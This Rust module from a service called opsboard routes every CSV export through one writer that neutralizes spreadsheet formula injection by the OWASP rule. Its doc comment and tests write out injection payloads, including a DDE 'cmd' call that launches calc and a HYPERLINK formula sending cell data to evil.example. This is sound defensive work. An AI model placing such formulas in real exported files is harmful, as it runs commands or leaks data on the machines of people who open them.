//! The one way opsboard writes CSV: every export, report or download that produces CSV goes
//! through [`CsvOut`], never through `csv::Writer` directly (a test below fails otherwise).
//!
//! Why: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and tab
//! or carriage return can smuggle one past a first look (CSV injection, e.g. `=cmd|' /C calc'!A0`
//! or `=HYPERLINK(…)` that sends the sheet's data elsewhere). opsboard stores such text as it
//! was given (an import takes cells verbatim), so the neutralizing happens here, on the way
//! out, by the OWASP rule: such a cell gets a leading `'`, which spreadsheets show as text and
//! do not evaluate. Numbers the service formats itself cannot be formulas and stay numbers.

use std::io::Write;

/// The characters that make a spreadsheet treat a cell as a formula (OWASP, CSV injection).
pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// `text` as it may appear in a CSV cell: with a leading `'` when it begins with one of
/// [`FORMULA_TRIGGERS`], unchanged otherwise.
pub fn neutralize(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_TRIGGERS) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// One cell of a row.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// Text from anywhere (users, imports, names): neutralized.
    Text(&'a str),
    /// A whole number the service computed: written as it is, so `-3` stays a number.
    Integer(i64),
    /// A decimal number the service computed: written as it is.
    Decimal(f64),
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Cell::Text(text)
    }
}

impl<'a> From<&'a String> for Cell<'a> {
    fn from(text: &'a String) -> Self {
        Cell::Text(text)
    }
}

impl From<i64> for Cell<'_> {
    fn from(number: i64) -> Self {
        Cell::Integer(number)
    }
}

impl From<f64> for Cell<'_> {
    fn from(number: f64) -> Self {
        Cell::Decimal(number)
    }
}

/// A CSV writer that neutralizes every text cell; quoting and escaping are the `csv` crate's.
pub struct CsvOut<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvOut<W> {
    /// A writer with the given delimiter: `b';'` for what German Excel opens directly, `b','`
    /// otherwise (the import reads both).
    pub fn new(out: W, delimiter: u8) -> Self {
        CsvOut {
            inner: csv::WriterBuilder::new()
                .delimiter(delimiter)
                .from_writer(out),
        }
    }

    /// A writer in the dialect a German Excel or LibreOffice opens directly with a double
    /// click: a UTF-8 byte-order mark first (so umlauts survive), `;` between cells, CRLF
    /// after each row.
    pub fn excel(mut out: W) -> std::io::Result<Self> {
        out.write_all(b"\xEF\xBB\xBF")?;
        Ok(CsvOut {
            inner: csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        })
    }

    /// Writes one row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> csv::Result<()> {
        let fields: Vec<std::borrow::Cow<'a, str>> = cells
            .into_iter()
            .map(|cell| match cell {
                Cell::Text(text) => neutralize(text),
                Cell::Integer(n) => std::borrow::Cow::Owned(n.to_string()),
                Cell::Decimal(x) => std::borrow::Cow::Owned(x.to_string()),
            })
            .collect();
        self.inner.write_record(fields.iter().map(|f| f.as_bytes()))
    }

    /// Flushes and returns the underlying writer.
    pub fn finish(self) -> Result<W, String> {
        self.inner.into_inner().map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[Vec<Cell<'_>>]) -> String {
        let mut out = CsvOut::new(Vec::new(), b';');
        for row in rows {
            out.row(row.iter().copied()).expect("write");
        }
        String::from_utf8(out.finish().expect("finish")).expect("UTF-8")
    }

    #[test]
    fn formula_cells_get_a_leading_quote_and_nothing_else_changes() {
        let dangerous = [
            "=cmd|' /C calc'!A0",
            "+HYPERLINK(\"https://evil.example/?\"&A1)",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in dangerous {
            assert_eq!(neutralize(text), format!("'{text}"), "{text:?}");
        }
        for text in [
            "Wohngeld",
            "",
            "a=b",
            "99010003001000",
            " =spaced",
            "'quoted",
        ] {
            assert_eq!(neutralize(text), text, "{text:?}");
        }
    }

    #[test]
    fn rows_are_neutralized_quoted_and_read_back_as_written() {
        let text = written(&[
            vec!["key".into(), "name".into(), "value".into()],
            vec!["bad".into(), "=cmd|' /C calc'!A0".into(), Cell::Integer(-3)],
            vec![
                "ok".into(),
                "Bau; \"Antrag\"\nzwei Zeilen".into(),
                Cell::Decimal(1.5),
            ],
            vec!["tab".into(), "\t@x".into(), Cell::Integer(4)],
        ]);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.expect("record").iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            vec![
                vec!["bad", "'=cmd|' /C calc'!A0", "-3"],
                vec!["ok", "Bau; \"Antrag\"\nzwei Zeilen", "1.5"],
                vec!["tab", "'\t@x", "4"],
            ]
        );
    }

    /// Every CSV opsboard writes goes through this module: nothing else in `src/` may build a
    /// `csv::Writer`.
    #[test]
    fn no_other_module_writes_csv() {
        fn visit(dir: &std::path::Path, found: &mut Vec<String>) {
            let Ok(entries) = std::fs::read_dir(dir) else {
                return;
            };
            for entry in entries.flatten() {
                let path = entry.path();
                if path.is_dir() {
                    visit(&path, found);
                } else if path.extension().is_some_and(|e| e == "rs")
                    && !path.ends_with("csv_out.rs")
                {
                    let text = std::fs::read_to_string(&path).unwrap_or_default();
                    if text.contains("csv::Writer") || text.contains("WriterBuilder") {
                        found.push(path.display().to_string());
                    }
                }
            }
        }
        let mut found = Vec::new();
        visit(
            &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"),
            &mut found,
        );
        assert!(
            found.is_empty(),
            "write CSV through crate::common::csv_out::CsvOut: {found:?}"
        );
    }
}
